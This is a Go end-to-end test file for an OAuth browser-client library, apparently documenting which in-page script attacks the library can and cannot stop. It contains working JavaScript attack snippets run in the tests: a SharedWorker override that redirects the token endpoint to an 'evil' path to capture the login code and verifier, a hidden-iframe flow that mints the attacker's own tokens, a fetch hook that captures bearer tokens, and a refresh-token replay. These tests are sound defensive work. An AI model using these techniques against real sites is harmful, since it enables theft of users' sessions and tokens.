package e2e

import (
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/postern-auth/postern/tools/serve/ledger"
)

// What nothing stops: script that replaces SharedWorker, or Worker, before Postern starts one decides what that worker is told, and so where the next login's code goes.
func TestAdversaryWorkerReplaced(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		v := target(t, b)
		v.Allow("evil")
		v.create(inWorker)
		v.callbackURL("")
		v.Eval(`{
			const { SharedWorker } = globalThis;
			globalThis.SharedWorker = class extends SharedWorker {
				constructor(url, { name, ...how }) {
					const given = JSON.parse(name), [origin] = given.open.split(' '), options = JSON.parse(given.open.slice(origin.length)), issuer = options.issuer;
					options.metadata = { issuer, authorization_endpoint: issuer + '/authorize', token_endpoint: issuer + '/evil', jwks_uri: issuer + '/jwks' };
					super(url, { ...how, name: JSON.stringify({ ...given, open: origin + ' ' + JSON.stringify(options) }) });
				}
			};
		}`)
		v.create(inWorker)
		code := v.query().Get("code")
		var o outcome
		v.Eval("t.outcome(async () => t.client.handleRedirectCallback())", &o)
		require.NotNil(t, o.Error)
		sent := v.sentToEvil()
		require.NotEmpty(t, sent)
		assert.Contains(t, sent[0], code)
		assert.Contains(t, sent[0], "code_verifier=")
	})
}

// flow is a login that an attacker begins from the page, in a frame, with a verifier of their own: whoever has script in the page has the user's session at
// the provider, and needs nothing that Postern holds.
const flow = `globalThis.flow = async (headers = async () => ({})) => {
	const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
	const verifier = 'v'.repeat(43), redirect = location.origin + location.pathname;
	const challenge = base64url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier)));
	const frame = document.createElement('iframe');
	frame.src = t.settings.issuer + '/authorize?' + new URLSearchParams({
		client_id: t.settings.clientId, response_type: 'code', redirect_uri: redirect, audience: t.settings.audience, prompt: 'none', state: 'x', nonce: 'n',
		scope: 'openid profile email read:messages offline_access', code_challenge: challenge, code_challenge_method: 'S256',
	});
	document.documentElement.append(frame);
	let code;
	while (!code) {
		await new Promise((resolve) => { setTimeout(resolve, 20); });
		try { code = new URL(frame.contentWindow.location).searchParams.get('code'); } catch { /* it is at the provider */ }
	}
	frame.remove();
	const response = await fetch(t.settings.issuer + '/token', { method: 'POST', headers: await headers(), body: new URLSearchParams({
		grant_type: 'authorization_code', client_id: t.settings.clientId, code, redirect_uri: redirect, code_verifier: verifier,
	}) });
	return response.text();
}`

// What nothing stops: a fresh flow, and asking for access tokens.
func TestAdversaryFreshFlow(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		v := target(t, b)
		v.signIn(inWorker)
		v.Eval(flow)
		access, refresh := v.stolen(v.Text("flow()"))
		assert.True(t, access && refresh, "a family of the attacker's own")
		access, refresh = v.stolen(v.Text("t.client.getTokenSilently({detailedResponse: true}).then(JSON.stringify)"))
		assert.Equal(t, []bool{true, false}, []bool{access, refresh})
		assert.Equal(t, 200, v.call(http.Header{"Authorization": {"Bearer " + v.token()}}), "without DPoP it can be used anywhere")
		v.kept(1)
	})
}

// client.fetch runs in the page: who has poisoned fetch there sees the token that it sends.
func TestAdversaryFetchSeesAccessToken(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		v := target(t, b)
		v.signIn(inWorker)
		v.Eval(`{ globalThis.sent = []; const { fetch } = globalThis; globalThis.fetch = (url, init) => { sent.push(...new Headers(init.headers).values()); return fetch(url, init); }; }`)
		v.Eval("t.client.createFetcher().fetchWithAuth(t.settings.issuer + '/userinfo').then((r) => r.status)")
		access, refresh := v.stolen(v.Text("sent.join(' ')"))
		assert.Equal(t, []bool{true, false}, []bool{access, refresh})
	})
}

// Rotation stops dumb replay: a copy of a token that was renewed ends the family. Who waits until nobody renews any more has the session.
func TestAdversaryRotation(t *testing.T) {
	eachBuild(t, func(t *testing.T, b build) {
		v := target(t, b)
		v.Allow("status of 400")
		v.signIn(alone)
		_, old := v.newest()
		require.True(t, strings.Contains(v.Text("t.stored()"), old))
		age(v.app)
		v.token()
		status, answer := v.elsewhere(old, http.Header{})
		assert.Equal(t, 400, status)
		assert.Equal(t, "invalid_grant", answer["error"])
		assert.Equal(t, 1, v.revoked(ledger.Reuse))
		age(v.app)
		v.fails("session_revoked", "t.client.getTokenSilently()")

		v.signInAgain("alice", "wonderland", at(alone, 3))
		_, last := v.newest()
		v.Goto(v.stack.AppURL() + home + "empty.html")
		status, answer = v.elsewhere(last, http.Header{})
		assert.Equal(t, 200, status)
		assert.NotEmpty(t, answer["refresh_token"])
		assert.Equal(t, 1, v.revoked(ledger.Reuse))
	})
}
